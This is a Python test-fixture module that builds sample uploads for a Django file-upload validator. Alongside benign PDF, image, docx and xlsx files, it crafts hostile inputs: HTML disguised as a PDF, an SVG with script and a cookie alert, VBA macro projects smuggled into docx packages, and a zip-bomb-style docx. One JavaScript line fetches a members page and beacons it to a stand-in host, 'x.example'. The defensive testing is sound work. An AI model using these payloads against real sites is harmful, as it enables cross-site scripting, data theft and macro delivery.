"""Files for the upload tests, made by the programs that make such files (Pillow, python-docx,
openpyxl) or crafted byte by byte as an attacker would; all small and in memory."""
import io
import zipfile

from django.core.files.uploadedfile import InMemoryUploadedFile, SimpleUploadedFile
from PIL import Image


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def image_bytes(fmt: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


# A minimal PDF as the specification lays it out: header, one object, trailer, end-of-file marker.
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
# What the attacker uploaded: a page that merely starts like a PDF.
PDF_PREFIXED_HTML = b"%PDF-1.4\n<html><body><script>fetch('/cadres/members/')</script></body></html>\n"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/cadres/members/').then(r => r.text())</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
       b'<script>alert(1)</script></svg>')
JS = b"fetch('/cadres/members/').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t));"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # the header of a .doc / .xls


def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("组织生活会会议记录")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "签到"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def repack(package: bytes, *, add: dict | None = None, replace: dict | None = None) -> bytes:
    """The same zip with parts added or replaced (a macro project slipped into a real .docx)."""
    add, replace = add or {}, replace or {}
    source = zipfile.ZipFile(io.BytesIO(package))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = replace.get(item.filename, source.read(item.filename))
            target.writestr(item.filename, data)
        for name, data in add.items():
            target.writestr(name, data)
    return buffer.getvalue()


def docm_bytes() -> bytes:
    """A macro-enabled Word document renamed .docx: the VBA project and its declared content type."""
    package = docx_bytes()
    types = zipfile.ZipFile(io.BytesIO(package)).read("[Content_Types].xml")
    types = types.replace(b"</Types>", b'<Default Extension="bin" '
                          b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return repack(package, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"},
                  replace={"[Content_Types].xml": types})


def docx_with_vba_part_bytes() -> bytes:
    """A .docx carrying a VBA project under Office's name for it, not declared in [Content_Types]."""
    return repack(docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA"})


def docx_declaring_macros_bytes() -> bytes:
    """A hand-made package whose VBA project has an unusual name but a declared content type."""
    package = docx_bytes()
    types = zipfile.ZipFile(io.BytesIO(package)).read("[Content_Types].xml")
    types = types.replace(b"</Types>", b'<Override PartName="/word/code.dat" '
                          b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return repack(package, add={"word/code.dat": b"\xd0\xcf\x11\xe0VBA"}, replace={"[Content_Types].xml": types})


def zip_bomb_docx_bytes() -> bytes:
    """A real .docx with one more part of 4 MB of zeros (compresses about 1000:1)."""
    return repack(docx_bytes(), add={"word/media/filler.bin": b"\x00" * (4 * 1024 * 1024)})


def plain_zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not an office document")
    return buffer.getvalue()


def declared_huge(name: str, content: bytes, size: int):
    """A small upload that says it is `size` bytes: the size check must refuse it before reading."""
    return InMemoryUploadedFile(io.BytesIO(content), "file", name, "application/pdf", size, None)
